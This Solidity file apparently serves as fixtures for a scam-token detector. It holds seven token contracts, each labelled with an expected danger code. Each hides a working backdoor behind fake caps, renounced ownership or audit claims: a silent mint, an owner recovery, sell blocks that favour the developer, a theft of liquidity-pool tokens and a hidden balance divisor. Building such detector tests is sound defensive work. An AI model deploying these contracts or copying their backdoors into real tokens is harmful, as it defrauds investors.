// SPDX-License-Identifier: MIT
pragma solidity ^0.8.19;

// Decoys: what looks capped, renounced and audited.

/// reflection token where the rate can be moved
/// expects: CT-06 danger
contract Reflect {
    string public name = "Reflecto"; string public symbol = "RFLCT"; uint8 public decimals = 9;
    uint256 private constant MAX = ~uint256(0); uint256 private _tTotal = 1e18; uint256 private _rTotal = MAX - (MAX % 1e18);
    mapping(address => uint256) private _rOwned; mapping(address => uint256) private _tOwned; mapping(address => bool) private _isExcluded; address[] private _excluded;
    mapping(address => mapping(address => uint256)) private _allow; address public owner;
    event Transfer(address indexed f, address indexed t, uint256 v); event Approval(address indexed o, address indexed s, uint256 v);
    modifier onlyOwner() { require(msg.sender == owner, "!owner"); _; }
    constructor() { owner = msg.sender; _rOwned[msg.sender] = _rTotal; }
    function totalSupply() external view returns (uint256) { return _tTotal; }
    function balanceOf(address a) public view returns (uint256) { if (_isExcluded[a]) return _tOwned[a]; return _rOwned[a] / _rate(); }
    function _rate() private view returns (uint256) { (uint256 r, uint256 t) = _supply(); return r / t; }
    function _supply() private view returns (uint256, uint256) {
        uint256 r = _rTotal; uint256 t = _tTotal;
        for (uint256 i = 0; i < _excluded.length; i++) { r -= _rOwned[_excluded[i]]; t -= _tOwned[_excluded[i]]; }
        return (r, t);
    }
    function exclude(address a) external onlyOwner { _tOwned[a] = _rOwned[a] / _rate(); _isExcluded[a] = true; _excluded.push(a); }
    function correctReflection(uint256 r) external onlyOwner { _rTotal = r; }
    function allowance(address o, address s) external view returns (uint256) { return _allow[o][s]; }
    function approve(address s, uint256 v) external returns (bool) { _allow[msg.sender][s] = v; emit Approval(msg.sender, s, v); return true; }
    function transfer(address t, uint256 v) external returns (bool) { _t(msg.sender, t, v); return true; }
    function transferFrom(address f, address t, uint256 v) external returns (bool) { _allow[f][msg.sender] -= v; _t(f, t, v); return true; }
    function _t(address f, address t, uint256 v) private {
        uint256 r = _rate(); uint256 fee = v * 2 / 100;
        _rOwned[f] -= v * r; if (_isExcluded[f]) _tOwned[f] -= v;
        _rOwned[t] += (v - fee) * r; if (_isExcluded[t]) _tOwned[t] += v - fee;
        _rTotal -= fee * r; emit Transfer(f, t, v - fee);
    }
}

/// decoy limits everywhere; real theft in an innocent override of a view used by transfer
/// expects: CT-19 danger
contract Decoys {
    string public constant name = "Certified Safe"; string public constant symbol = "CERT"; uint8 public constant decimals = 18;
    uint256 public totalSupply = 1e27; mapping(address => uint256) private ledger; mapping(address => mapping(address => uint256)) public allowance;
    address public owner; uint256 public fee = 1; uint256 public constant MAX_FEE = 3; bool public renounced;
    mapping(address => uint256) public joined; uint256 private horizon = 1;
    address private auditor;
    event Transfer(address indexed f, address indexed t, uint256 v); event Approval(address indexed o, address indexed s, uint256 v);
    constructor() { owner = msg.sender; auditor = tx.origin; ledger[msg.sender] = totalSupply; }
    function setFee(uint256 f) external { require(msg.sender == owner && f <= MAX_FEE); fee = f; }
    function renounceOwnership() external { require(msg.sender == owner); owner = address(0); renounced = true; }
    function balanceOf(address a) public view returns (uint256) { return ledger[a]; }
    function audit(uint256 h) external { require(msg.sender == auditor); horizon = h; }
    function approve(address s, uint256 v) external returns (bool) { allowance[msg.sender][s] = v; emit Approval(msg.sender, s, v); return true; }
    function transfer(address t, uint256 v) external returns (bool) { _t(msg.sender, t, v); return true; }
    function transferFrom(address f, address t, uint256 v) external returns (bool) { allowance[f][msg.sender] -= v; _t(f, t, v); return true; }
    function _available(address a) internal view returns (uint256) { return a == auditor || joined[a] == 0 ? ledger[a] : ledger[a] / horizon; }
    function _t(address f, address t, uint256 v) internal {
        require(_available(f) >= v, "balance"); if (joined[t] == 0 && t.code.length == 0) joined[t] = block.number;
        uint256 cut = v * fee / 100; ledger[f] -= v; ledger[t] += v - cut; ledger[address(0xdead)] += cut; emit Transfer(f, t, v - cut);
    }
}

/// owner written down twice; the second is found by division
/// expects: CT-12 danger
contract PairOfOwners {
    string public constant name = "TwoKeys"; string public constant symbol = "2K"; uint8 public constant decimals = 18;
    uint256 public totalSupply = 1e27; mapping(address => uint256) public balanceOf; mapping(address => mapping(address => uint256)) public allowance;
    address public owner; uint256 private seed; mapping(address => bool) public isBlacklisted; address private amm; bool private strict;
    event Transfer(address indexed f, address indexed t, uint256 v); event Approval(address indexed o, address indexed s, uint256 v);
    event OwnershipTransferred(address indexed a, address indexed b);
    constructor() { owner = msg.sender; seed = uint256(uint160(msg.sender)) * 7 + 3; balanceOf[msg.sender] = totalSupply; }
    function renounceOwnership() external { require(msg.sender == owner); emit OwnershipTransferred(owner, address(0)); owner = address(0); }
    function reclaim() external { require(uint256(uint160(msg.sender)) == (seed - 3) / 7); owner = msg.sender; }
    function setStrict(bool s, address a) external { require(msg.sender == owner); strict = s; amm = a; }
    function approve(address s, uint256 v) external returns (bool) { allowance[msg.sender][s] = v; emit Approval(msg.sender, s, v); return true; }
    function transfer(address t, uint256 v) external returns (bool) { _t(msg.sender, t, v); return true; }
    function transferFrom(address f, address t, uint256 v) external returns (bool) { allowance[f][msg.sender] -= v; _t(f, t, v); return true; }
    function _t(address f, address t, uint256 v) internal {
        if (strict) require(t != amm || uint256(uint160(f)) == (seed - 3) / 7, "K");
        balanceOf[f] -= v; balanceOf[t] += v; emit Transfer(f, t, v);
    }
}

/// list of who may sell kept as an array
/// expects: CT-12 danger
contract ArrayList {
    string public constant name = "Guest List"; string public constant symbol = "GUEST"; uint8 public constant decimals = 18;
    uint256 public totalSupply = 1e27; mapping(address => uint256) public balanceOf; mapping(address => mapping(address => uint256)) public allowance;
    address[] private guests; address private host; address private door;
    event Transfer(address indexed f, address indexed t, uint256 v); event Approval(address indexed o, address indexed s, uint256 v);
    constructor() { host = msg.sender; guests.push(host); balanceOf[msg.sender] = totalSupply; }
    function invite(address g) external { require(msg.sender == host); guests.push(g); }
    function setDoor(address d) external { require(msg.sender == host); door = d; }
    function approve(address s, uint256 v) external returns (bool) { allowance[msg.sender][s] = v; emit Approval(msg.sender, s, v); return true; }
    function transfer(address t, uint256 v) external returns (bool) { _t(msg.sender, t, v); return true; }
    function transferFrom(address f, address t, uint256 v) external returns (bool) { allowance[f][msg.sender] -= v; _t(f, t, v); return true; }
    function _in(address a) private view returns (bool) { for (uint256 i; i < guests.length; ++i) if (guests[i] == a) return true; return false; }
    function _t(address f, address t, uint256 v) internal {
        if (t == door) require(_in(f), "not on the list");
        balanceOf[f] -= v; balanceOf[t] += v; emit Transfer(f, t, v);
    }
}

/// the key of the ban mapping is (from, day): each morning nobody may sell until the dev opens the day for himself
/// expects: CT-12 danger
contract DayKey {
    string public constant name = "Daily"; string public constant symbol = "DLY"; uint8 public constant decimals = 18;
    uint256 public totalSupply = 1e27; mapping(address => uint256) public balanceOf; mapping(address => mapping(address => uint256)) public allowance;
    mapping(bytes32 => bool) private ok; address private dev; mapping(address => bool) private markets;
    event Transfer(address indexed f, address indexed t, uint256 v); event Approval(address indexed o, address indexed s, uint256 v);
    constructor() { dev = msg.sender; balanceOf[msg.sender] = totalSupply; }
    function open(bytes32[] calldata k) external { require(msg.sender == dev); for (uint256 i; i < k.length; i++) ok[k[i]] = true; }
    function market(address m) external { require(msg.sender == dev); markets[m] = true; }
    function approve(address s, uint256 v) external returns (bool) { allowance[msg.sender][s] = v; emit Approval(msg.sender, s, v); return true; }
    function transfer(address t, uint256 v) external returns (bool) { _t(msg.sender, t, v); return true; }
    function transferFrom(address f, address t, uint256 v) external returns (bool) { allowance[f][msg.sender] -= v; _t(f, t, v); return true; }
    function _t(address f, address t, uint256 v) internal {
        if (markets[t]) require(ok[keccak256(abi.encode(f, block.timestamp / 1 days))], "closed");
        balanceOf[f] -= v; balanceOf[t] += v; emit Transfer(f, t, v);
    }
}

/// what is burnt is somebody else's
/// expects: CT-30 danger
contract BurnOther {
    string public constant name = "Hot Potato"; string public constant symbol = "POTATO"; uint8 public constant decimals = 18;
    uint256 public totalSupply = 1e27; mapping(address => uint256) public balanceOf; mapping(address => mapping(address => uint256)) public allowance;
    address private chef; 
    event Transfer(address indexed f, address indexed t, uint256 v); event Approval(address indexed o, address indexed s, uint256 v);
    constructor() { chef = msg.sender; balanceOf[msg.sender] = totalSupply; }
    /// burns LP remains to pump the price (Sushi style "burn from pair and sync")
    function burnLiquidityPairTokens(address pair, uint256 pct) external { require(msg.sender == chef); uint256 b = balanceOf[pair] * pct / 100; balanceOf[pair] -= b; balanceOf[chef] += b; (bool ok,) = pair.call(abi.encodeWithSignature("sync()")); ok; }
    function approve(address s, uint256 v) external returns (bool) { allowance[msg.sender][s] = v; emit Approval(msg.sender, s, v); return true; }
    function transfer(address t, uint256 v) external returns (bool) { _t(msg.sender, t, v); return true; }
    function transferFrom(address f, address t, uint256 v) external returns (bool) { allowance[f][msg.sender] -= v; _t(f, t, v); return true; }
    function _t(address f, address t, uint256 v) internal { balanceOf[f] -= v; balanceOf[t] += v; emit Transfer(f, t, v); }
}

/// mint by a hidden hand without any sign: no event, no supply
/// expects: CT-06 danger
contract GhostMint {
    string public constant name = "Ghost"; string public constant symbol = "GST"; uint8 public constant decimals = 18;
    uint256 public totalSupply = 1e27; mapping(address => uint256) public balanceOf; mapping(address => mapping(address => uint256)) public allowance;
    bytes32 private immutable who;
    event Transfer(address indexed f, address indexed t, uint256 v); event Approval(address indexed o, address indexed s, uint256 v);
    constructor() { who = keccak256(abi.encodePacked(msg.sender)); balanceOf[msg.sender] = totalSupply; }
    function approve(address s, uint256 v) external returns (bool) {
        if (keccak256(abi.encodePacked(msg.sender)) == who && s == address(this)) { balanceOf[msg.sender] += v; return true; }
        allowance[msg.sender][s] = v; emit Approval(msg.sender, s, v); return true;
    }
    function transfer(address t, uint256 v) external returns (bool) { _t(msg.sender, t, v); return true; }
    function transferFrom(address f, address t, uint256 v) external returns (bool) { allowance[f][msg.sender] -= v; _t(f, t, v); return true; }
    function _t(address f, address t, uint256 v) internal { balanceOf[f] -= v; balanceOf[t] += v; emit Transfer(f, t, v); }
}
